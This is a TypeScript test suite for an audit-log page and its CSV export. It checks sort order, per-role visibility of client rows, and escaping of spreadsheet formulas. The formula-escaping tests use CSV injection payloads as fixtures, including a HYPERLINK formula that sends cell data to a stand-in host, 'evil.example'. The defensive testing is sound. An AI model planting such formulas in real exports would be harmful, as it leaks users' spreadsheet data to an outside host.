import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { createHarness, type Harness } from '../support/harness';
import { assign, makeClient, makeUser, type MadeUser } from '../support/factories';
import { TestBrowser } from '../support/browser';
import { pdfBytes, uploadFiles } from '../support/files';
import { AuditEvent, Firm, type Client } from '../../server/db/models';
import { translate } from '../../server/i18n';
import type { ActorContext } from '../../server/audit';

/**
 * The access log view (issue 5): the order each fixed sort column gives on the page, a CSV that a
 * spreadsheet cannot run as formulas, and whose rows a firm admin and an assigned staff member see.
 */

const ja = (key: string) => translate('ja', key);

/** Handlebars' escapes back to text. */
const unescape = (s: string) => s.replace(/&#x3D;/g, '=').replace(/&#x27;/g, "'").replace(/&#x60;/g, '`').replace(/&quot;/g, '"')
  .replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');

/** The log table's rows as the page shows them: one map of column (its data-label) → cell text per row, top to bottom. */
function tableRows(html: string): Map<string, string>[] {
  const body = /<tbody>([\s\S]*?)<\/tbody>/.exec(html)?.[1] ?? '';
  return [...body.matchAll(/<tr(?: class="denied")?>([\s\S]*?)<\/tr>/g)].map(([, tr]) => {
    const cells = new Map<string, string>();
    for (const [, label, content] of tr!.matchAll(/<td data-label="([^"]+)"[^>]*>([\s\S]*?)<\/td>/g)) {
      cells.set(unescape(label!), unescape(content!.replace(/<small>[\s\S]*?<\/small>/g, '').replace(/<[^>]+>/g, ' ')).replace(/\s+/g, ' ').trim());
    }
    return cells;
  });
}

describe('操作履歴: the order of each sort column, a formula-safe CSV, and whose rows a reader sees', function () {
  this.timeout(60_000);
  let h: Harness;
  let firmAdmin: MadeUser;
  let admin: TestBrowser;

  before(async () => {
    h = await createHarness();
    await Firm.create({ id: 1, name: '暁社会保険労務士事務所' });
    firmAdmin = await makeUser(h, { role: 'firm_admin', name: '所長' });
    admin = new TestBrowser(h.portal.app);
    await admin.login(firmAdmin);
  });
  after(async () => { await h.close(); });

  describe('sorting', () => {
    let client: Client;
    // Written in this order (time and seq ascending); no column is in order already, either way round.
    // The actors' names sort the same under SQLite's BINARY and MariaDB's utf8mb4_unicode_ci (and before 'system').
    const fixtures: { label: string; operation: string; actor: string; result: 'allowed' | 'denied' | 'error' }[] = [
      { label: 'row-1', operation: 'vault.reveal', actor: 'Chiba', result: 'allowed' },
      { label: 'row-2', operation: 'certificate.download', actor: 'Aoki', result: 'error' },
      { label: 'row-3', operation: 'log.export.csv', actor: 'Baba', result: 'denied' },
      { label: 'row-4', operation: 'file.download', actor: 'Chiba', result: 'allowed' },
      { label: 'row-5', operation: 'report.download', actor: 'Aoki', result: 'denied' },
      { label: 'row-6', operation: 'certificate.download', actor: 'Baba', result: 'allowed' },
      { label: 'row-7', operation: 'vault.reveal', actor: 'Aoki', result: 'error' },
    ];
    const written = fixtures.map((f) => f.label);

    before(async () => {
      client = await makeClient(h, { code: 'SORT1', name: '株式会社並べ替え' });
      for (const f of fixtures) {
        const ctx: ActorContext = { actorId: null, actorName: f.actor, actorRole: 'firm_staff', ip: '127.0.0.1', userAgent: 't', channel: 'web:test' };
        await h.booted.services.audit.recordAlone(ctx, { operation: f.operation, result: f.result, clientId: client.id, targetLabel: f.label });
      }
    });

    /** The fixture rows' labels in the order the page lists them (other rows of the client, e.g. its creation, left out). */
    async function orderOnPage(query: string): Promise<{ labels: string[]; rows: Map<string, string>[] }> {
      const res = await admin.get(`/audit?client=${client.id}&${query}`);
      expect(res.status, query).to.equal(200);
      const rows = tableRows(res.text).filter((r) => written.includes(r.get(ja('log.col.person')) ?? ''));
      expect(rows, `${query}: every fixture row is on the page`).to.have.length(fixtures.length);
      return { labels: rows.map((r) => r.get(ja('log.col.person'))!), rows };
    }

    /** The fixtures sorted by a key, ties by the order they were written, the whole reversed for desc (as the log orders: column, then seq). */
    const expected = (key: (f: (typeof fixtures)[number]) => string, dir: 'asc' | 'desc') => {
      const asc = fixtures.map((f, i) => ({ f, i })).sort((a, b) => (key(a.f) < key(b.f) ? -1 : key(a.f) > key(b.f) ? 1 : a.i - b.i)).map(({ f }) => f.label);
      return dir === 'asc' ? asc : asc.reverse();
    };

    it('by time: oldest first with dir=asc, newest first with dir=desc (and by default)', async () => {
      expect((await orderOnPage('sort=at&dir=asc')).labels).to.deep.equal(written);
      expect((await orderOnPage('sort=at&dir=desc')).labels).to.deep.equal([...written].reverse());
      expect((await orderOnPage('')).labels).to.deep.equal([...written].reverse());
    });

    it('by operation, both ways: the rows come in the operation\'s order, not the time\'s', async () => {
      for (const dir of ['asc', 'desc'] as const) {
        const want = expected((f) => f.operation, dir);
        // The fixture is chosen so that this order is neither time order.
        expect(want).to.not.deep.equal(written).and.not.deep.equal([...written].reverse());
        const { labels, rows } = await orderOnPage(`sort=operation&dir=${dir}`);
        expect(labels, dir).to.deep.equal(want);
        // The column shows it: the operations read down the page are the sorted ones.
        expect(rows.map((r) => r.get(ja('log.col.operation'))), dir).to.deep.equal(want.map((l) => ja(`op.${fixtures.find((f) => f.label === l)!.operation}`)));
      }
    });

    it('by operator, both ways', async () => {
      for (const dir of ['asc', 'desc'] as const) {
        const want = expected((f) => f.actor, dir);
        expect(want).to.not.deep.equal(written).and.not.deep.equal([...written].reverse());
        const { labels, rows } = await orderOnPage(`sort=actor&dir=${dir}`);
        expect(labels, dir).to.deep.equal(want);
        const names = rows.map((r) => r.get(ja('log.col.operator')));
        expect(names, dir).to.deep.equal([...names].sort((a, b) => (dir === 'asc' ? a!.localeCompare(b!) : b!.localeCompare(a!))));
      }
    });

    it('by result, both ways: allowed, denied, error (and back)', async () => {
      for (const dir of ['asc', 'desc'] as const) {
        const want = expected((f) => f.result, dir);
        expect(want).to.not.deep.equal(written).and.not.deep.equal([...written].reverse());
        const { labels, rows } = await orderOnPage(`sort=result&dir=${dir}`);
        expect(labels, dir).to.deep.equal(want);
        const results = rows.map((r) => r.get(ja('log.col.result')));
        const ladder = [ja('log.result.allowed'), ja('log.result.denied'), ja('log.result.error')];
        const rank = results.map((r) => ladder.indexOf(r!));
        expect(rank, dir).to.deep.equal([...rank].sort((a, b) => (dir === 'asc' ? a - b : b - a)));
      }
    });

    it('the CSV keeps the page\'s order', async () => {
      const res = await admin.get(`/audit.csv?client=${client.id}&sort=operation&dir=asc`);
      expect(res.status).to.equal(200);
      const cells = parse(res.text.replace(/^\uFEFF/, ''), { relaxColumnCount: false }) as string[][];
      const personCol = cells[0]!.indexOf(ja('log.col.person'));
      const labels = cells.slice(1).map((r) => r[personCol]!).filter((l) => written.includes(l));
      expect(labels).to.deep.equal(expected((f) => f.operation, 'asc'));
    });
  });

  describe('the CSV and formulas', () => {
    const formulaName = '=HYPERLINK("http://evil.example/?d="&A1,"開く")';
    // (No slash: a name is cut to its last path part.)
    const fileName = '=HYPERLINK("https:evil.example?d="&A1,"請求書").pdf';
    const labels = ['+SUM(1,2)', '-2+3', '@SUM(A1:A9)', '=1+1'];
    let client: Client;

    before(async () => {
      client = await makeClient(h, { code: 'CSV1', name: '株式会社しーえすぶい' });
      // A client admin whose name someone typed as a formula sends a file whose name is one too.
      const hr = await makeUser(h, { role: 'client_admin', clientId: client.id, totp: false, name: formulaName });
      const b = new TestBrowser(h.portal.app);
      await b.login(hr);
      expect((await uploadFiles(b, { direction: 'to_firm', category: 'other' }, [{ name: fileName, data: pdfBytes() }])).status).to.equal(200);
      // Labels the log shows as they are (no person, file or report kind), each starting with a formula sign.
      for (const [i, label] of labels.entries()) {
        const ctx: ActorContext = { actorId: null, actorName: `${['+', '-', '@', '='][i]}operator${i}`, actorRole: 'firm_staff', ip: '127.0.0.1', userAgent: 't', channel: 'web:test' };
        await h.booted.services.audit.recordAlone(ctx, { operation: 'report.download', result: 'allowed', clientId: client.id, targetLabel: label });
      }
    });

    it('a cell starting with = + - @ is prefixed with an apostrophe in /audit.csv; nothing in it starts with a formula sign', async () => {
      const res = await admin.get(`/audit.csv?client=${client.id}`);
      expect(res.status).to.equal(200);
      expect(res.headers['content-type']).to.contain('text/csv');
      const rows = parse(res.text.replace(/^\uFEFF/, '')) as string[][];
      const [header, ...body] = rows;
      const col = (k: string) => header!.indexOf(ja(k));
      // The file's upload: its sender's name neutralised; the file named as such (the cell starts with the kind, not the name).
      const upload = body.find((r) => r[col('log.col.operation')] === ja('op.file.upload'))!;
      expect(upload, 'the upload is in the CSV').to.not.equal(undefined);
      expect(upload[col('log.col.operator')]).to.equal(`'${formulaName}`);
      expect(upload[col('log.col.person')]).to.equal(translate('ja', 'report.pdf.target.file', { label: fileName }));
      // Each label and operator that began with a formula sign keeps its text after the apostrophe.
      for (const [i, label] of labels.entries()) {
        const row = body.find((r) => r[col('log.col.person')] === `'${label}`);
        expect(row, `the row labelled ${label}`).to.not.equal(undefined);
        expect(row![col('log.col.operator')]).to.equal(`'${['+', '-', '@', '='][i]}operator${i}`);
      }
      const live = body.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
      expect(live, 'cells a spreadsheet would evaluate').to.deep.equal([]);
    });
  });

  describe('whose rows: the firm admin sees every client, a staff member only the assigned ones', () => {
    let p: Client;
    let q: Client;
    let staff: MadeUser;

    before(async () => {
      p = await makeClient(h, { code: 'SCP', name: '株式会社ピー' });
      q = await makeClient(h, { code: 'SCQ', name: '株式会社キュー' });
      staff = await makeUser(h, { role: 'firm_staff', name: '担当 一郎' });
      await assign(h, p.id, staff.user.id);
      const ctx: ActorContext = { actorId: null, actorName: '人事 担当', actorRole: 'client_admin', ip: '127.0.0.1', userAgent: 't', channel: 'web:test' };
      for (const [c, n] of [[p, 3], [q, 2]] as const) {
        for (let i = 0; i < n; i++) await h.booted.services.audit.recordAlone(ctx, { operation: 'vault.export', result: 'allowed', clientId: c.id, targetLabel: `${c.code}-mark-${i}` });
      }
    });

    const clientsOf = (html: string) => new Set(tableRows(html).map((r) => r.get(ja('log.col.client'))));

    it('the firm admin, with no client chosen, gets the rows of both clients (and the count of both)', async () => {
      const res = await admin.get('/audit?operation=vault.export');
      expect(res.status).to.equal(200);
      const rows = tableRows(res.text);
      expect(rows).to.have.length(5);
      expect(clientsOf(res.text)).to.deep.equal(new Set(['SCP 株式会社ピー', 'SCQ 株式会社キュー']));
      expect(rows.filter((r) => r.get(ja('log.col.client')) === 'SCQ 株式会社キュー').map((r) => r.get(ja('log.col.person'))).sort()).to.deep.equal(['SCQ-mark-0', 'SCQ-mark-1']);
      expect(res.text).to.match(/<span>5件/);
      // And the CSV likewise.
      const csv = parse((await admin.get('/audit.csv?operation=vault.export')).text.replace(/^\uFEFF/, '')) as string[][];
      expect(new Set(csv.slice(1).map((r) => r[csv[0]!.indexOf(ja('log.col.client'))]))).to.deep.equal(new Set(['SCP 株式会社ピー', 'SCQ 株式会社キュー']));
    });

    it('the staff member, with no client chosen, gets only the assigned client\'s rows, in the page, the count and the CSV', async () => {
      const b = new TestBrowser(h.portal.app);
      await b.login(staff);
      const res = await b.get('/audit?operation=vault.export');
      expect(res.status).to.equal(200);
      expect(tableRows(res.text)).to.have.length(3);
      expect(clientsOf(res.text)).to.deep.equal(new Set(['SCP 株式会社ピー']));
      expect(res.text).to.match(/<span>3件/).and.not.contain('SCQ-mark').and.not.contain('株式会社キュー');
      // Unfiltered, too: nothing of the other client anywhere on the page.
      const all = await b.get('/audit');
      expect(all.status).to.equal(200);
      expect(all.text).to.not.contain('SCQ').and.not.contain('株式会社キュー');
      expect(tableRows(all.text).length).to.be.greaterThan(0);
      expect(clientsOf(all.text)).to.deep.equal(new Set(['SCP 株式会社ピー']));
      const csv = await b.get('/audit.csv?operation=vault.export');
      expect(csv.status).to.equal(200);
      expect(csv.text).to.contain('SCP-mark-0').and.not.contain('SCQ-mark');
      expect(await AuditEvent.count({ where: { operation: 'vault.export', clientId: q.id } })).to.equal(2);
    });
  });
});
